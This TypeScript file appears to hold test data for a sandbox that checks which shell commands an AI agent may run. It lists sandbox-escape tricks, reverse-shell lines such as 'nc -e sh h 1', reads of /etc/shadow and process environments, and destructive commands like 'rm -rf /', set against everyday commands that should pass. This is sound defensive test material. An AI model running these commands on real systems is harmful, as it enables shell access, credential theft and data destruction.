/**
 * Commands that run another program, load code, or read and write where they should not, through a program that looks harmless. Facts about programs: one
 * command a line, words with blanks between them. `/w` is the workspace and the working directory.
 */
const lines = (text: string) =>
  text
    .split("\n")
    .map((line) => line.trim())
    .filter((line) => line !== "");

/** Fault A2, by name. */
export const NAMED_ATTACKS: readonly string[] = lines(`
  find . -exec sh -c id ;
  git -c alias.x=!id x
  tar -cf a.tar a --checkpoint=1 --checkpoint-action=exec=id
  tar -I ./x -xf a.tar
  sed -n 1e\u00a0id a
  split --filter=id a
  make --eval=x:;id x
  setarch x86_64 sh -c id
  linux64 sh -c id
  prlimit --nofile=64 sh -c id
  choom -n 0 -- sh -c id
  vi -c !id
  vim -c :!id
  zip -T -TT id a.zip a
  node --experimental-loader data:text/javascript,0 x.js
  ld-linux-x86-64.so.2 /bin/sh
  ld.so /bin/sh
  start-stop-daemon --start --exec /bin/sh
  run-parts ./d
  apt-get -o APT::Update::Pre-Invoke::=id update
  npm exec --call=id
`);

/** They start another program, or load code. */
export const EXECUTIONS: readonly string[] = lines(`
  7z a -ttar -an -so @list
  aa-exec /bin/sh
  ab -p a http://h/
  agetty -o -p -l /bin/sh -a root tty
  alpine -F a
  ansible-playbook x.yml
  ansible-test shell
  aoss /bin/sh
  apt changelog apt
  apt-get changelog apt
  aptitude changelog aptitude
  arch -x86_64 sh
  ash -c id
  aspell -c a
  at now
  atobm a
  awk BEGIN{system("id")}
  aws help
  bash -c id
  batch
  batcat --paging=always a
  bconsole
  bpftrace -c /bin/sh -e END{}
  bridge -b a
  bundle exec id
  bundler help
  busctl --show-machine
  busybox sh -c id
  byebug x
  bzip2 -c a
  cabal exec -- id
  capsh --
  cargo run
  cc -wrapper sh,-c,id .
  cdist shell -s /bin/sh
  certbot certonly --pre-hook id
  check_by_ssh -o ProxyCommand=id -H h -C x
  check_log -F a -O b
  choom -n 0 sh
  chroot / sh
  chrt 1 sh
  clang -wrapper sh .
  clisp -x (ext:run-program\u00a0"id")
  cmake -P x.cmake
  cobc -xFj x
  composer run-script x
  cowsay -f ./x.cow y
  cowthink -f ./x.cow y
  cpan
  cpio -o --rsh-command=id -F h:a
  cpulimit -l 100 -f sh
  crash -h
  crontab -e
  csh -c id
  csvtool call id a
  ctags --options=a
  cupsfilter -i application/octet-stream -m application/octet-stream a
  curl -K a
  dash -c id
  date --file=/etc/shadow
  dc -e !id
  debugfs
  deno run x.ts
  dialog --textbox /etc/shadow 0 0
  diff -l a b
  diff --paginate a b
  diff3 --diff-program=id a b c
  distcc sh -c id
  dmesg -H
  dmsetup ls --exec=/bin/sh
  dnf install x.rpm
  doas sh
  docker run -v /:/mnt alpine sh
  dosbox -c x
  dotnet fsi
  dpkg -l
  dpkg-deb -I x.deb
  dvips -tau x.dvi
  easy_install .
  eb logs
  ed a
  efax -d a
  egrep x a
  elixir -e x
  elvish -c id
  emacs -Q -nw --eval=(term"id")
  enscript /dev/null -qo /dev/null -I id
  env sh
  eqn a
  erb x.erb
  erl -eval os:cmd("id")
  espeak -qXf /etc/shadow
  ex -c !id
  exiftool -config ./x a
  expect -c spawn\u00a0id
  facter --custom-dir=. x
  fgrep x a
  file -z a.gz
  file --uncompress a.gz
  file -m ./magic a
  file --magic-file=./magic a
  find . -execdir id ;
  find . -ok id ;
  find . -okdir id ;
  find . -name a -exec id {} +
  finger user@h
  firejail sh
  fish -c id
  flock -u / /bin/sh
  gawk -f x.awk
  gcc -wrapper sh,-s .
  gcc -fplugin=./x.so a.c
  gcloud help
  gcore 1
  gdb -nx -ex !id -ex quit
  gem open -e id rdoc
  genie -c sh
  genisoimage -sort a
  ghc -e System.Process.system"id"
  ghci
  gimp -idf --batch-interpreter=x -b x
  ginsh
  git -p help
  git help status
  git status
  git diff
  git log
  git show
  git --exec-path=. x
  git -c core.pager=id log
  git -c core.fsmonitor=./x status
  git --git-dir=./evil status
  git grep --open-files-in-pager=id x
  git diff --ext-diff
  git fetch ext::sh
  gnuplot -e system("id")
  go run x.go
  grc --pty sh
  grep --pre=id x
  groff -U x
  gtester -q x
  guile -c (system"id")
  gzip -f a
  hd -f a
  iconv -f 8859_1 -t 8859_1 a
  iftop
  info a
  ionice sh
  ip netns exec foo sh
  irb
  ispell a
  java -jar x.jar
  jjs x.js
  joe a
  journalctl
  jrunscript -e exec("id")
  jshell x
  julia -e run(x)
  knife exec -E x
  ksh -c id
  ksshell -i a
  ksu -q -e sh
  kubectl proxy
  latex --shell-escape x
  latexmk -e x
  ldconfig -f a
  ldd ./x
  less a
  lftp -c !id
  linux32 sh
  lldb -o x
  logrotate a.conf
  logsave /dev/null sh
  lp a
  ltrace -b -L sh
  lua -e os.execute("id")
  lualatex -shell-escape x
  luatex -shell-escape x
  mail --exec=!id
  make -f x
  make test
  man -P id man
  mawk BEGIN{system("id")}
  minicom -D /dev/null
  more a
  mount -o bind /bin/sh /bin/mount
  msfconsole
  msgattrib -P a
  msgfilter -P sh -c id
  multitime sh
  mutt -F a
  mysql -e \\!id
  nano -s sh
  nasm -@ a
  nawk BEGIN{system("id")}
  nc -e sh h 1
  ncat -e sh h 1
  ncdu
  neofetch --config ./x
  nft -f a
  nice sh
  ninja -f x
  nm @a
  nmap --script=./x
  node -r ./x.js
  node --require=./x
  node --import=./x.js x
  node --env-file=a x.js
  nohup sh
  npm run x
  npm test
  npm exec id
  npx id
  nroff x
  nsenter sh
  octave-cli --eval=system("id")
  openssl req -engine ./x.so
  openvpn --dev null --script-security 2 --up id
  openvt -- sh
  opkg install x.ipk
  pandoc -L x.lua
  parallel id
  passwd
  pax -f a
  pdb x.py
  pdflatex --shell-escape x
  pdftex --shell-escape x
  perf stat sh
  perl -e exec"id"
  perlbug -r x
  perldoc x
  pexec sh
  pg a
  php -r system("id");
  pic -U
  pico -s sh
  pidstat -e sh
  pip install .
  pip3 install .
  pipx run x
  pkexec sh
  pkg install x
  pnpm exec id
  poetry run id
  posh -c id
  prove x.t
  pry
  psftp
  psql -c \\!id
  puppet apply x.pp
  python3 -c import\u00a0os
  python3 -m x
  python3 x.py
  qemu-system-x86_64 -monitor x
  rake -p x
  rc -c id
  readelf @a
  red a
  restic --password-command=id backup
  rg --pre ./x y
  rg --pre=./x y
  rg --hostname-bin ./x y
  rg --hostname-bin=./x y
  rg -z x
  rg --search-zip x
  rlwrap sh
  rpm --pipe id
  rpm --eval=%(id)
  rpmdb --eval=%(id)
  rpmquery --eval=%(id)
  rpmverify --eval=%(id)
  rsync -e sh a h:b
  rtorrent -o import=a
  ruby -e exec"id"
  rubygems x
  run-mailcap --action=view text/plain:a
  runscript a
  rustup run x id
  rview -c :!id
  rvim -c :py\u00a0x
  sash -c id
  scanmem
  scp -S ./x a h:b
  screen sh
  script -q -c id /dev/null
  scrot -e id
  sed e\u00a0id a
  sed -f x a
  sed s/x/id/e a
  service ../../w/x
  setfacl --restore=a
  setlock - sh
  sftp -S ./x h
  sg root id
  sh -c id
  sh x.sh
  slsh -e system("id")
  socat stdin exec:sh
  softlimit sh
  sort --compress-program=./x -S1 a
  sort --compress-program ./x -S1 a
  split --filter=sh a
  sqlite3 /dev/null .shell\u00a0id
  sqlmap --eval=x
  ssh -o ProxyCommand=id h
  ssh-agent sh
  ssh-copy-id -x h
  ssh-keygen -D ./x.so
  ssh-keyscan -f a
  sshpass sh
  stdbuf -i0 sh
  strace -o /dev/null sh
  strings --plugin=./x.so a
  strings @args
  su -c id
  sudo sh
  sudoedit a
  svn diff --diff-cmd=id
  systemctl
  systemd-resolve x
  systemd-run sh
  tar -cf a.tar a --use-compress-program=id
  tar -xf a.tar --to-command=id
  tar -cf h:a --rsh-command=id a
  tar --checkpoint-action=exec=id -cf a b
  task execute id
  taskset 1 sh
  tasksh
  tbl a
  tclsh x.tcl
  tcpdump -z ./x -w a -G 1
  tcsh -c id
  tdbtool
  telnet h
  terraform console
  tex --shell-escape x
  time sh
  timedatectl list-timezones
  timeout 7 sh
  tmate -c id
  tmux -c id
  top
  torify sh
  torsocks sh
  troff -U x
  tshark -Xlua_script:x.lua
  ul a
  unshare sh
  unsquashfs -f a
  unzip -K a
  update-alternatives --force --install a b c 0
  uv run x
  uvx x
  valgrind sh
  varnishncsa -f x
  vi a
  view -c :!id
  vim a
  vimdiff -c :!id
  vipw
  w3m a --dump
  watch id
  wget --use-askpass=./x h
  wish x
  xargs -a a sh
  xdotool exec sh
  xelatex --shell-escape x
  xetex --shell-escape x
  xonsh -c id
  xterm -e id
  yarn exec id
  yash -c id
  yelp man:x
  yum --enableplugin=x
  zathura
  zip a.zip a -T --unzip-command=id
  zsh -c id
  zsoelim a
  zypper x
`);

/** They read, write, delete or send where the agent may not, or change the machine. */
export const READS_AND_WRITES: readonly string[] = lines(`
  ar r a.a /etc/shadow
  arj a a /etc/shadow
  arp -v -f /etc/shadow
  as @/etc/shadow
  ascii85 /etc/shadow
  base32 /etc/shadow
  base58 /etc/shadow
  base64 /etc/shadow
  base64 -o /tmp/x a
  base64 -i/etc/shadow
  basenc --base64 /etc/shadow
  basez /etc/shadow
  bc -s /etc/shadow
  cat /etc/shadow
  cat -- /etc/shadow
  cat -n /etc/shadow
  cat ../x
  cat a/../../x
  cat ./../x
  cat a ../../etc/shadow
  cat /w/../etc/shadow
  cat /proc/self/environ
  cat /w2/x
  chattr +i a
  chgrp x a
  chmod 777 a
  chown x a
  cksum /etc/shadow
  cksum -c list
  cksum --check list
  column -t /etc/shadow
  comm /etc/shadow a
  comm a /etc/shadow
  cp a /etc/x
  csplit /etc/shadow 1
  cut -d: -f1 /etc/shadow
  cut -f1 -d: -- /etc/shadow
  date -f /etc/shadow
  date -s 2020-01-01
  date --set=2020-01-01
  date 010100002020
  date -r /etc/shadow
  date --reference=/etc/shadow
  dd if=/etc/shadow
  df /root
  diff --line-format=%L /dev/null /etc/shadow
  diff a /etc/shadow
  diff --from-file=/etc/shadow a
  diff --to-file=/etc/shadow a
  diff -X /etc/shadow a b
  du -X /etc/shadow
  du --files0-from=list
  du /root
  du -L .
  env
  expand /etc/shadow
  file -f /etc/shadow
  file -f list
  file --files-from=list
  file -C -m a
  file /etc/shadow
  find / -name x
  find .. -name x
  find . -delete
  find . -fprint /tmp/x
  find . -fprintf /tmp/x y
  find . -fprint0 /tmp/x
  find . -fls /tmp/x
  find -files0-from list
  find -L . -name x
  find . -follow -name x
  find . -newer /etc/shadow
  find -f /etc
  fmt -pNON_EXISTING_PREFIX /etc/shadow
  fmt /etc/shadow
  fold -w99 /etc/shadow
  grep -r x /etc
  grep -f /etc/shadow a
  grep -f/etc/shadow a
  grep --file=/etc/shadow a
  grep --file /etc/shadow a
  grep -rf /etc/shadow a
  grep -e x /etc/shadow
  grep -ex /etc/shadow
  grep --regexp=x /etc/shadow
  grep /etc/shadow -e x
  grep x a -f /etc/shadow
  grep x -- /etc/shadow
  grep -R x .
  grep --dereference-recursive x .
  grep --exclude-from=/etc/shadow x a
  grep x a -e ../x
  gzip -k a
  head -c1G /etc/shadow
  head -n 5 /etc/shadow
  head -5 /etc/shadow
  hexdump -C /etc/shadow
  hexdump -f /etc/shadow a
  hexdump -e x /etc/shadow
  highlight --no-doc /etc/shadow
  hostname evil
  hostname -F /etc/shadow
  hostname --file=/etc/shadow
  hostname -b evil
  hostnamectl set-hostname evil
  install -m 6777 a /etc/x
  ip -force -batch /etc/shadow
  join -a 2 /dev/null /etc/shadow
  jq -Rr . /etc/shadow
  jq -f /etc/shadow a
  jq -nf/etc/shadow
  jq --from-file /etc/shadow a
  jq -L /etc . a
  jq -n env
  jq -n $ENV
  jq -n $ENV.HOME
  jq -n import"/etc/x"as$d;$d
  jq -n include"/etc/x";.
  jq -n "x"|modulemeta
  jq --slurpfile x /etc/shadow . a
  jq --rawfile x /etc/shadow . a
  jq --argfile x /etc/shadow . a
  jq . a --rawfile x /etc/shadow
  kill 1
  ln -s / a
  ls /root
  ls -la ..
  ls -- /root
  ls ~root/../../root
  mkdir /tmp/x
  mknod a c 1 1
  mktemp /tmp/XXXX
  mosquitto -c /etc/shadow
  mtr --raw -F /etc/shadow
  mv a /etc/x
  nl -bn -w1 -s: /etc/shadow
  od -An -c -w9999 /etc/shadow
  od -An -c /etc/shadow
  paste /etc/shadow
  paste -d: a /etc/shadow
  patch a b
  pr -T /etc/shadow
  printenv
  ps eww
  ptx -w 5000 /etc/shadow
  readlink -f /etc/shadow
  realpath /etc/alternatives/x
  realpath --relative-to=/ a
  realpath --relative-to / a
  redcarpet /etc/shadow
  rev /etc/shadow
  rg x /etc
  rg -f /etc/shadow a
  rg --file=/etc/shadow a
  rg -e x /etc/shadow
  rg --files /etc
  rg --files -- /etc
  rg -L x
  rg --follow x
  rg --ignore-file /etc/shadow x
  rm -rf /
  rm -rf .
  rmdir a
  rsync a /tmp/x
  sha256sum -c list
  sha256sum --check list
  sha256sum /etc/shadow
  shred a
  shuf -o /tmp/x -e y
  sort -o /tmp/x a
  sort -o a a
  sort -oa a
  sort -no a a
  sort --output=/tmp/x a
  sort a -o b
  sort -T /etc a
  sort --temporary-directory=/etc a
  sort --files0-from=list
  sort --random-source=/etc/shadow -R a
  sort -m /etc/shadow
  sort -k1 /etc/shadow
  split a /tmp/x
  ss -a -F /etc/shadow
  stat /etc/shadow
  stat -c %n /etc/shadow
  strings /etc/shadow
  strings -n1 /etc/shadow
  sum /etc/shadow
  sysctl -w a=b
  tac -s x /etc/shadow
  tail -c1G /etc/shadow
  tail -F a
  tail --follow=name a
  tail --retry a
  tee /tmp/x
  tftp h
  touch /tmp/x
  tree /etc
  tree -o /tmp/x
  tree -R -L 1 -H .
  tree --fromfile list
  tree -l
  truncate -s0 a
  unexpand -t99 /etc/shadow
  uniq /etc/shadow
  uniq a b
  uniq -c a /tmp/x
  uniq -- a b
  uudecode -o /tmp/x a
  uuencode /etc/shadow x
  wc --files0-from=/etc/shadow
  wc --files0-from=list
  wc /etc/shadow
  wget -i /etc/shadow
  whiptail --textbox /etc/shadow 0 0
  xmllint --noent a
  xxd /etc/shadow
  xxd a b
  xxd -r a b
  xxd -p -r a b
  xz -c /etc/shadow
  zcat /etc/shadow
  zgrep x a
`);

/** What agents do every day: each passes, with its program on the list by its path alone. */
export const EVERYDAY: readonly string[] = lines(`
  cat a.txt
  cat -n src/a.ts src/b.ts
  cat /w/src/a.ts
  cat ./a.txt
  cat -
  head a.txt
  head -20 a.txt
  head -n 20 a.txt
  head -n20 a.txt b.txt
  head --lines=20 a.txt
  head -c 100 a.txt
  tail -n +5 a.txt
  tail -f log/a.log
  tail -50 log/a.log
  wc -l a.txt
  wc -lwc a.txt b.txt
  grep -rn TODO src
  grep -rn TODO src --include=*.ts
  grep -n x a.txt
  grep -in -A3 -B 3 x a.txt
  grep -E ^(a|b)$ a.txt
  grep -e x -e y a.txt
  grep -f patterns.txt a.txt
  grep -c /api/v1 a.txt
  grep -rl --exclude-dir=node_modules x .
  grep --color=never -o x a.txt
  grep -5 x a.txt
  rg x
  rg -n x src
  rg -tjs -g !dist x src
  rg --files
  rg --files src
  rg --json -C 2 x
  rg -e x -e y src
  rg -i --hidden --glob *.md x
  cut -d, -f1 a.csv
  cut -d , -f 1-3 a.csv
  cut -d - -f2 a.txt
  cut -c1-10 a.txt
  sort a.txt
  sort -u a.txt b.txt
  sort -t: -k2,2n a.txt
  sort -rn -k 3 a.txt
  uniq a.txt
  uniq -c a.txt
  tr a-z A-Z
  tr -d \\n
  nl -ba a.txt
  tac a.txt
  rev a.txt
  paste -d, a.txt b.txt
  join -t, -1 1 -2 2 a.csv b.csv
  comm -12 a.txt b.txt
  diff a.txt b.txt
  diff -u a.txt b.txt
  diff -ru src dist
  diff -U 5 a.txt b.txt
  diff --brief -r a b
  cmp a.bin b.bin
  cmp -s a.bin b.bin
  fold -w 80 -s a.txt
  fmt -w 72 a.txt
  expand -t 4 a.txt
  unexpand -a a.txt
  column -t -s, a.csv
  md5sum a.bin
  sha256sum a.bin b.bin
  sha512sum -b a.bin
  b2sum a.bin
  cksum a.bin
  sum a.bin
  base64 a.bin
  base64 -d a.b64
  base64 -w 0 a.bin
  od -A x -t x1 a.bin
  hexdump -C a.bin
  hexdump -C -n 64 a.bin
  xxd a.bin
  xxd -l 64 -s 16 a.bin
  strings -n 8 a.bin
  jq . a.json
  jq -r .name package.json
  jq -c .items[]|select(.id>3) a.json
  jq -n --arg x y {a:$x}
  jq --slurpfile x b.json .+$x[0] a.json
  ls
  ls -la
  ls -la src
  ls -lhS --color=never src dist
  ls -R src
  ls /w
  tree -L 2
  tree -a -L 3 src
  find .
  find . -name *.ts
  find src -type f -name *.ts -not -path */node_modules/*
  find . -maxdepth 2 -type d
  find . -mtime -1 -size +10k
  find src ( -name a -o -name b ) -print
  find . -newer a.txt -print0
  find . -perm -644
  stat a.txt
  stat -c %s a.txt
  file a.bin
  file -b --mime-type a.bin
  du -sh .
  du -sh src
  du -h -d 1
  du -ah --max-depth=1 src
  df -h
  df -h .
  realpath a.txt
  realpath --relative-to=src a.txt
  readlink -f a.txt
  basename /etc/x.txt .txt
  basename -s .ts a.ts
  dirname /etc/x.txt
  which node
  which -a node npm
  pwd
  test -f a.txt
  test a = b
  [ -d src ]
  echo hello
  echo -n /etc/passwd
  printf %s\\n x
  expr 1 + 2
  true
  false
  seq 10
  seq -w 1 2 10
  sleep 0.1
  date
  date +%F
  date -u +%Y-%m-%dT%H:%M:%SZ
  date -d 2\u00a0days\u00a0ago +%F
  date -Iseconds
  cal
  cal 2026
  whoami
  id
  id -un
  groups
  uname -a
  hostname
  hostname -f
  uptime
  uptime -p
  free -h
  nproc
  ls --help
  rg --version
`);
